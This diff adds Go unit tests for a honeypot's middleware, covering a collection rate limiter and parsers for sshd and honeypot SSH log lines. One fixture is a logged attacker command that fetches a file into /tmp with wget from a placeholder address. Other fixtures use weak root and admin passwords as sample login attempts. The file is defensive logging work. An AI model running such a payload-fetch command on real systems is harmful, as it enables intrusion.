@@ -0,0 +1,63 @@
+package middleware
+
+import (
+	"testing"
+	"time"
+)
+
+func TestLimiter(t *testing.T) {
+	limiter := NewLimiter(time.Minute, 2, time.Hour)
+	now := time.Now()
+
+	if allowed, _ := limiter.Allow(potName, now); !allowed {
+		t.Errorf("first collection should be allowed")
+	}
+
+	if allowed, _ := limiter.Allow(potName, now.Add(30*time.Second)); allowed {
+		t.Errorf("collection during cool-down should be refused")
+	}
+
+	if allowed, _ := limiter.Allow(potName, now.Add(2*time.Minute)); !allowed {
+		t.Errorf("collection after cool-down should be allowed")
+	}
+
+	if allowed, _ := limiter.Allow(potName, now.Add(4*time.Minute)); allowed {
+		t.Errorf("collection over rate limit should be refused")
+	}
+
+	if allowed, _ := limiter.Allow(potName, now.Add(2*time.Hour)); !allowed {
+		t.Errorf("collection after window should be allowed")
+	}
+}
+
+func TestParseLoginLine(t *testing.T) {
+	event, matched := ParseLoginLine("Dec  1 10:00:00 pot sshd[12]: Accepted password for root from 10.0.0.5 port 5522 ssh2")
+	if !matched {
+		t.Fatalf("sshd login not matched")
+	}
+	if event.Username != "root" || event.SourceIP != "10.0.0.5" {
+		t.Errorf("sshd login not parsed - user: %s, ip: %s", event.Username, event.SourceIP)
+	}
+
+	event, matched = ParseLoginLine("login attempt [admin/123456] succeeded")
+	if !matched || event.Username != "admin" || event.Password != "123456" {
+		t.Errorf("login attempt not parsed - %+v", event)
+	}
+
+	if _, matched := ParseLoginLine("GET / HTTP/1.1 200"); matched {
+		t.Errorf("unrelated line should not match")
+	}
+
+	event, matched = ParseLogLine("2020-09-13T12:00:00.000000Z [HoneyPotSSHTransport,12,203.0.113.5] login attempt [root/123456] failed")
+	if !matched || event.Kind != EventLogin || event.Fields["result"] != "failed" || event.SourceIP != "203.0.113.5" || event.Fields["session"] != "12" || event.Time.Unix() != 1599998400 {
+		t.Errorf("failed login attempt not parsed - %+v", event)
+	}
+	if _, matched := ParseLoginLine("login attempt [root/123456] failed"); matched {
+		t.Errorf("failed login should not fire the login trigger")
+	}
+
+	event, matched = ParseLogLine("2020-09-13T12:00:01.000000Z [HoneyPotSSHTransport,12,203.0.113.5] CMD: cd /tmp; wget http://203.0.113.5/x")
+	if !matched || event.Kind != EventCommand || event.Command != "cd /tmp; wget http://203.0.113.5/x" || event.Fields["session"] != "12" {
+		t.Errorf("command not parsed - %+v", event)
+	}
+}